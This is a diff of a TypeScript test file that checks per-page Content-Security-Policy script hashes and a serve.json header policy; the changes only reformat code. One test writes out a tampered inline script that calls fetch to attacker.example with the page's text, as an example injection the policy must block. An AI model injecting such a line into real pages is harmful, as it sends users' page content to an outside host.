@@ -6,7 +6,10 @@ import { PAGE_SCRIPT_SOURCES, scriptPolicy, withScriptPolicy } from './script-po
 const page = (head: string, body: string) => `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${head}</head><body>${body}</body></html>`
 const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])'
 const PAYLOAD = 'self.__next_f.push([1,"page payload"])'
-const built = page('<script src="/_next/static/chunks/main.js" async=""></script>', `<main>Guide</main><script>${BOOTSTRAP}</script><script>${PAYLOAD}</script>`)
+const built = page(
+  '<script src="/_next/static/chunks/main.js" async=""></script>',
+  `<main>Guide</main><script>${BOOTSTRAP}</script><script>${PAYLOAD}</script>`,
+)
 
 /** The script-src sources of the policy a page carries in its <meta>. */
 function allowedSources(html: string): string[] {
@@ -28,7 +31,9 @@ describe('the script policy written into each page', () => {
   it('does not allow an inline script changed after the build', () => {
     const sources = allowedSources(withScriptPolicy(built))
     const tampered = built.replace(PAYLOAD, `${PAYLOAD};fetch("https://attacker.example/?" + document.body.innerText)`)
-    const tamperedHashes = scriptPolicy(tampered).split(' ').filter((s) => s.startsWith("'sha256-"))
+    const tamperedHashes = scriptPolicy(tampered)
+      .split(' ')
+      .filter((s) => s.startsWith("'sha256-"))
     expect(tamperedHashes.filter((hash) => !sources.includes(hash))).toHaveLength(1)
   })
 
@@ -57,7 +62,12 @@ describe('the script policy written into each page', () => {
 describe("the server's policy (serve.json)", () => {
   const config = JSON.parse(readFileSync('serve.json', 'utf8')) as { headers: { source: string; headers: { key: string; value: string }[] }[] }
   const header = config.headers.find((h) => h.source === '**')?.headers.find((h) => h.key === 'Content-Security-Policy')?.value ?? ''
-  const directive = (name: string) => header.split(';').map((d) => d.trim().split(' ')).find(([n]) => n === name)?.slice(1) ?? []
+  const directive = (name: string) =>
+    header
+      .split(';')
+      .map((d) => d.trim().split(' '))
+      .find(([n]) => n === name)
+      ?.slice(1) ?? []
 
   it('lets every source a page policy allows through, so the page policy alone decides which scripts run', () => {
     // The browser enforces both policies; inline scripts pass the header and are then held to the page's hashes.
